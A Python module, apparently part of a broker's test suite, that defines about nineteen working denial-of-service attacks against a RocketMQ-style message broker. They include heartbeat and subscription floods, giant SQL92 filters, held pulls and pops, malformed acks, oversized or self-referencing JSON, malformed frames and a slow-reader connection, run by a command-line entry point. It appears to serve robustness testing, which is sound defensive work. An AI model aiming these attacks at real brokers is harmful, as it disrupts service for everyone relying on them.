"""What a stranger may send to a broker to keep it from serving others.

Each attack is one connection's worth of ill will, repeated until it is told to stop. None of
them needs a name that anybody has given it.
"""

import asyncio
import base64
import contextlib
import struct
import sys
import time
from collections.abc import Awaitable, Callable, Sequence
from typing import Any, Final

from rocketq.common.buffers import Buffer
from rocketq.message.queue import MessageQueue
from rocketq.remoting import Command, RemotingClient, RemotingError, RequestCode, RpcHook
from rocketq.remoting.bodies.assignment import BatchAck, BatchAckRequest, QueryAssignmentRequest
from rocketq.remoting.bodies.heartbeat import (
    ConsumerData,
    HeartbeatData,
    ProducerData,
    SubscriptionData,
)
from rocketq.remoting.bodies.locks import LockBatchRequest
from rocketq.remoting.headers import (
    CreateTopic,
    GetAllTopicConfig,
    GetConsumeStats,
    GetTopicStatsInfo,
    HeartBeat,
    QueryConsumeTimeSpan,
    QueryMessage,
    RecallMessage,
    RequestHeader,
    ResetOffset,
)
from rocketq.remoting.headers.pop import (
    AckMessage,
    ChangeInvisibleTime,
    Notification,
    PeekMessage,
    PopMessage,
)
from tests.broker.harness import pull_request, send_request
from tests.siege import attack_for

Attack = Callable[[RemotingClient, str, int], Awaitable[None]]
"""One round against an address; rounds are counted from 0."""

WIDE: Final = "wide"
"""A topic with as many queues as one may have."""


async def call(client: RemotingClient, address: str, request: Command) -> None:
    """Whatever comes of it."""
    with contextlib.suppress(RemotingError):
        await client.call(address, request, 30.0)


# Names without end


async def groups_without_end(client: RemotingClient, address: str, turn: int) -> None:
    data = HeartbeatData(
        client_id=f"client-{turn}",
        consumer_data_set=[
            ConsumerData(group_name=f"g-{turn}-{number}") for number in range(3_900)
        ],
        producer_data_set=[
            ProducerData(group_name=f"p-{turn}-{number}") for number in range(3_900)
        ],
    )
    await call(client, address, Command.request(HeartBeat(), data.encode()))


async def subscriptions_without_end(client: RemotingClient, address: str, turn: int) -> None:
    expression = " OR ".join(f"a{number} > {number}" for number in range(200))
    data = HeartbeatData(
        client_id="client",
        consumer_data_set=[
            ConsumerData(
                group_name="subscribes-to-everything",
                subscription_data_set=[
                    SubscriptionData(
                        topic=f"t-{number}",
                        sub_string=expression if number < 500 else "*",
                        expression_type="SQL92",
                        sub_version=turn,
                    )
                    for number in range(5_000)
                ],
            )
        ],
    )
    await call(client, address, Command.request(HeartBeat(), data.encode()))


async def topics_without_end(client: RemotingClient, address: str, turn: int) -> None:
    await asyncio.gather(
        *(call(client, address, send_request(f"topic-{turn}-{each}")) for each in range(200))
    )


async def queues_without_end(client: RemotingClient, address: str, turn: int) -> None:
    """All in one read, or nearly."""
    requests = [send_request(WIDE, queue_id=turn * 200 + each) for each in range(200)]
    await asyncio.gather(*(call(client, address, request) for request in requests))


async def locks_without_end(client: RemotingClient, address: str, turn: int) -> None:
    body = LockBatchRequest(
        consumer_group="TOOLS_CONSUMER",
        client_id="client",
        mq_set=[MessageQueue(WIDE, f"{turn}", number) for number in range(7_000)],
    )
    await call(client, address, Command.request(RequestCode.LOCK_BATCH_MQ, body=body.encode()))


async def come_and_go(client: RemotingClient, address: str, turn: int) -> None:
    for number in range(10):
        guest = RemotingClient()
        data = HeartbeatData(
            client_id=f"guest-{number}",
            consumer_data_set=[ConsumerData(group_name=f"g-{each}") for each in range(50)],
            producer_data_set=[ProducerData(group_name=f"p-{each}") for each in range(1_000)],
        )
        await call(guest, address, Command.request(HeartBeat(), data.encode()))
        await guest.close()


# Expressions and numbers


async def endless_expressions(client: RemotingClient, address: str, turn: int) -> None:
    for text in (
        "--" * 50_000,
        " OR ".join(f"a = {number}" for number in range(60_000)),
        "-" * 30_000,
        "(" * 30_000,
        f"b{turn} IN (" + ",".join(f"'{number}'" for number in range(1_000)) + ")",
        " OR ".join(f"c{turn} = {number}" for number in range(500)),
    ):
        request = pull_request(WIDE, subscription=text, expression_type="SQL92")
        await call(client, address, request)


async def absurd_numbers(client: RemotingClient, address: str, turn: int) -> None:
    for name in ("CHECK_IMMUNITY_TIME_IN_SECONDS", "TRANSACTION_CHECK_TIMES", "DELAY"):
        properties = {"TRAN_MSG": "true", "PGROUP": "p", "UNIQ_KEY": "u", name: "9" * 5_000}
        await call(client, address, send_request(WIDE, properties=properties))


# Waiting


async def held_pulls(client: RemotingClient, address: str, turn: int) -> None:
    """For a tag nobody uses, on the queue that everybody uses."""
    pulls = [
        client.send(
            address,
            pull_request(
                "honest",
                offset=2**40 if number % 2 else turn,
                sys_flag=6,
                suspend_timeout_millis=5_000,
                subscription=f"nobody-{number % 100}",
            ),
            20.0,
        )
        for number in range(2_000)
    ]
    await asyncio.gather(*pulls, return_exceptions=True)


async def held_sql_pulls(client: RemotingClient, address: str, turn: int) -> None:
    text = " OR ".join(f"a{number} = {number}" for number in range(400))
    pulls = [
        client.send(
            address,
            pull_request(
                "honest",
                sys_flag=6,
                suspend_timeout_millis=2_000,
                subscription=text,
                expression_type="SQL92",
                queue_offset=turn,
            ),
            20.0,
        )
        for _ in range(200)
    ]
    await asyncio.gather(*pulls, return_exceptions=True)


async def held_pops(client: RemotingClient, address: str, turn: int) -> None:
    """Of the topic that everybody uses, by many groups, for tags that nobody uses."""
    common: dict[str, Any] = {"poll_time": 400, "born_time": int(time.time() * 1000)}
    requests: list[RequestHeader] = []
    for number in range(300):
        group = f"pops-{number % 50}"
        requests += (
            PopMessage(
                consumer_group=group,
                topic="honest",
                queue_id=-1,
                max_msg_nums=32,
                invisible_time=10_000 + turn,
                init_mode=number % 2,
                exp_type="TAG",
                exp=f"nobody-{number}",
                order=number % 7 == 0,
                **common,
            ),
            Notification(consumer_group=group, topic="honest", queue_id=-1, **common),
        )
    calls = [client.send(address, Command.request(each), 20.0) for each in requests]
    await asyncio.gather(*calls, return_exceptions=True)


async def wide_pops(client: RemotingClient, address: str, turn: int) -> None:
    """Of a topic with as many queues as one may have, some of them there and most not."""
    sends = [send_request(WIDE, queue_id=each * 80) for each in range(200)]
    await asyncio.gather(*(call(client, address, request) for request in sends))
    common: dict[str, Any] = {"poll_time": 400, "born_time": int(time.time() * 1000)}
    requests: list[RequestHeader] = []
    for number in range(100):
        group = f"pops-{number % 20}"
        requests += (
            PopMessage(
                consumer_group=group,
                topic=WIDE,
                queue_id=-1,
                max_msg_nums=32,
                invisible_time=10_000 + turn,
                init_mode=number % 2,
                exp_type="TAG",
                exp=f"nobody-{number}" if number % 3 else "*",
                order=number % 7 == 0,
                **common,
            ),
            Notification(consumer_group=group, topic=WIDE, queue_id=-1, **common),
            PeekMessage(consumer_group=group, topic=WIDE, queue_id=-1, max_msg_nums=32),
        )
    calls = [client.send(address, Command.request(each), 20.0) for each in requests]
    await asyncio.gather(*calls, return_exceptions=True)


async def receipts_of_all_kinds(client: RemotingClient, address: str, turn: int) -> None:
    """Acknowledgements of what nobody has popped, one by one and by the hundred thousand."""
    now_ms = int(time.time() * 1000)
    place: dict[str, Any] = {"consumer_group": "pops-1", "topic": "honest", "queue_id": 0}
    for text in (
        f"0 {now_ms} 60000 0 0 attacked 0 {turn}",
        f"0 {now_ms} {2**62} 0 0 attacked 0 {turn}",
        f"{2**62} {now_ms} 60000 {2**31 - 1} 2 attacked {2**31 - 1} {2**62}",
        " ".join(["9" * 4_000] * 8),
    ):
        await call(client, address, Command.request(AckMessage(extra_info=text, offset=0, **place)))
        header = ChangeInvisibleTime(
            extra_info=text, offset=turn, invisible_time=2**62 if turn % 2 else 1, **place
        )
        await call(client, address, Command.request(header))
    for bit_set, count in (
        (base64.b64encode(b"\xff" * 100_000).decode(), 1),
        ("/" * 3_000, 1_000),
        (base64.b64encode(b"\xff" * 8).decode(), 7_000),
    ):
        ack = BatchAck(
            consumer_group="pops-1",
            topic="honest",
            pop_time=now_ms,
            invisible_time=60_000,
            bit_set=bit_set,
        )
        body = BatchAckRequest(broker_name="attacked", acks=[ack] * count)
        await call(
            client, address, Command.request(RequestCode.BATCH_ACK_MESSAGE, body=body.encode())
        )


async def times_without_end(client: RemotingClient, address: str, turn: int) -> None:
    """All due in the same moment, some never, and taken back before they are there."""
    due_ms = int(time.time() * 1000) + 3_000
    requests = []
    for number in range(300):
        when = (due_ms, due_ms, "9" * 400, "-1")[number % 4]
        properties = {"TIMER_DELIVER_MS": f"{when}", "UNIQ_KEY": f"u{turn}-{number}"}
        requests.append(send_request(WIDE, properties=properties, queue_id=number))
        handle = f"v1 {WIDE} attacked {due_ms} u{turn}-{number}"
        encoded = base64.urlsafe_b64encode(handle.encode()).decode()
        requests.append(Command.request(RecallMessage(topic=WIDE, recall_handle=encoded)))
    requests.append(Command.request(RecallMessage(topic=WIDE, recall_handle="A" * 100_000)))
    requests.append(Command.request(RequestCode.GET_TIMER_METRICS))
    await asyncio.gather(*(call(client, address, request) for request in requests))


async def assignments(client: RemotingClient, address: str, turn: int) -> None:
    for number in range(20):
        body = QueryAssignmentRequest(
            topic=WIDE,
            consumer_group=f"pops-{number}",
            client_id=f"client-{turn}",
            strategy_name=("AVG", "AVG_BY_CIRCLE", "x" * 10_000)[number % 3],
        )
        request = Command.request(RequestCode.QUERY_ASSIGNMENT, body=body.encode())
        await call(client, address, request)


# Long answers


async def statistics(client: RemotingClient, address: str, turn: int) -> None:
    questions = (
        GetTopicStatsInfo(topic=WIDE),
        GetConsumeStats(consumer_group="TOOLS_CONSUMER", topic=WIDE),
        QueryConsumeTimeSpan(topic=WIDE, group="TOOLS_CONSUMER"),
        ResetOffset(topic=WIDE, group="TOOLS_CONSUMER", timestamp=0, is_force=True),
        GetAllTopicConfig(),
        QueryMessage(
            topic=WIDE, key="k", max_num=2**31 - 1, begin_timestamp=0, end_timestamp=2**62
        ),
    )
    requests = [Command.request(question) for question in questions for _ in range(3)]
    requests += [
        Command.request(RequestCode.GET_ALL_CONSUMER_OFFSET),
        Command.request(RequestCode.GET_ALL_SUBSCRIPTIONGROUP_CONFIG),
        Command.request(RequestCode.GET_ALL_PRODUCER_INFO),
        Command.request(RequestCode.GET_BROKER_RUNTIME_INFO),
        Command.request(RequestCode.GET_BROKER_CONFIG),
    ]
    await asyncio.gather(*(call(client, address, request) for request in requests))


# Bytes


async def json_of_all_kinds(client: RemotingClient, address: str, turn: int) -> None:
    for body in (
        b'{"a":' * 100_000,
        b"{" + b",".join(b"'k%d':%d" % (each, each) for each in range(100_000)) + b"}",
        b'{"clientID":"c","consumerDataSet":[' + b'{"$ref":"$"},' * 50_000 + b"]}",
        b'{"a":"' + b"x" * (4 << 20) + b'"}',
        b'{"a":[' + b"1," * 1_000_000 + b"1]}",
    ):
        for code in (RequestCode.HEART_BEAT, RequestCode.LOCK_BATCH_MQ):
            await call(client, address, Command.request(code, body=body))


async def raw(address: str, data: bytes) -> None:
    host, port = address.split(":")
    with contextlib.suppress(OSError, TimeoutError):
        async with asyncio.timeout(10):
            reader, writer = await asyncio.open_connection(host, int(port))
            try:
                writer.write(data)
                await writer.drain()
                writer.write_eof()
                while await reader.read(1 << 16):
                    pass
            finally:
                writer.close()


async def frames_of_all_kinds(client: RemotingClient, address: str, turn: int) -> None:
    header = (
        b'{"code":34,"extFields":{'
        + b",".join(b'"f%d":"v"' % each for each in range(200_000))
        + b"}}"
    )
    frame = struct.pack(">ii", 4 + len(header), len(header)) + header
    await raw(address, frame)
    await raw(address, struct.pack(">i", 2**31 - 1) + b"x" * 100_000)
    await raw(address, b"\x00" * 1_000_000)
    await raw(address, struct.pack(">ii", 12, 2**24 - 1) + b"x" * 100_000)


async def deaf(client: RemotingClient, address: str, turn: int) -> None:
    """Asks for a lot and reads nothing of it."""
    host, port = address.split(":")
    request = Command.request(RequestCode.GET_ALL_TOPIC_CONFIG)
    parts: list[Buffer] = []
    request.encode_into(parts)
    frame = b"".join(parts)
    with contextlib.suppress(OSError, TimeoutError):
        _, writer = await asyncio.open_connection(host, int(port))
        try:
            async with asyncio.timeout(1):
                for _ in range(2_000):
                    writer.write(frame)
                    await writer.drain()
                await asyncio.sleep(3_600)
        finally:
            writer.transport.abort()


ATTACKS: Final[dict[str, Attack]] = {
    attack.__name__: attack
    for attack in (
        groups_without_end,
        subscriptions_without_end,
        topics_without_end,
        queues_without_end,
        locks_without_end,
        come_and_go,
        endless_expressions,
        absurd_numbers,
        held_pulls,
        held_sql_pulls,
        held_pops,
        wide_pops,
        receipts_of_all_kinds,
        times_without_end,
        assignments,
        statistics,
        json_of_all_kinds,
        frames_of_all_kinds,
        deaf,
    )
}


async def prepare(address: str, hooks: Sequence[RpcHook] = ()) -> None:
    """What the attacks work with, made as anybody could make it."""
    client = RemotingClient(hooks=hooks)
    try:
        header = CreateTopic(
            topic=WIDE,
            default_topic="TBW102",
            read_queue_nums=16_384,
            write_queue_nums=16_384,
            perm=6,
            topic_filter_type="SINGLE_TAG",
        )
        reply = await client.call(address, Command.request(header), 30.0)
        assert reply.code == 0, reply
        reply = await client.call(address, send_request("honest"), 30.0)
        assert reply.code == 0, reply
    finally:
        await client.close()


async def attack(
    address: str,
    name: str,
    rounds: int,
    stop: asyncio.Event | None = None,
    hooks: Sequence[RpcHook] = (),
) -> int:
    """Some rounds of one attack, or as many as there is time for; returns how many."""
    client = RemotingClient(hooks=hooks)
    turn = 0
    try:
        while turn < rounds and not (stop is not None and stop.is_set()):
            await ATTACKS[name](client, address, turn)
            turn += 1
    finally:
        await client.close()
    return turn


if __name__ == "__main__":
    asyncio.run(attack_for(attack, sys.argv[1:]))
